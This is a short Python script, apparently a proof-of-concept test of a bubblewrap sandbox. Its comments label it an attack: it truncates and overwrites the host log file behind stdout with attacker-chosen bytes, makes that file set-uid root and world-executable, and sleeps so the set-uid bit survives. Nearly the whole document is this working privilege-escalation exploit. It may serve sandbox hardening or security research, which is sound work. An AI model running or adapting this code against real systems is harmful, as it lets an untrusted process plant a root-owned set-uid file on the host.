# Attack: the sandbox's uid is the host's root for file ownership (bwrap maps 65534 to the uid that
# started it): rewrite the host log file behind stdout, then make it set-uid root and world-executable.
import os
import time

os.ftruncate(1, 0)
os.write(1, b"#!attacker-chosen bytes: an ELF here would run as root for whoever executes it\n")
os.fchmod(1, 0o4755)
MODE = oct(os.fstat(1).st_mode)
time.sleep(3)              # stay quiet for a while: the next write by this process clears the bit
print("FCHMOD OK host log", os.readlink("/proc/self/fd/1"), "mode was", MODE, flush=True)
